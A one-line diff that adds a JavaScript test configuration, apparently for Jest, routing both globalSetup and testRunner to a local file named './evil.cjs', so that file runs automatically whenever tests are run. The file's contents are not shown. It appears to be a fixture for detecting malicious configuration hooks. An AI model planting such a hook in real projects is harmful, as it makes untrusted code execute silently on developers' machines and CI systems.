@@ -1,0 +1,1 @@
+module.exports = { globalSetup: "./evil.cjs", testRunner: "./evil.cjs" };
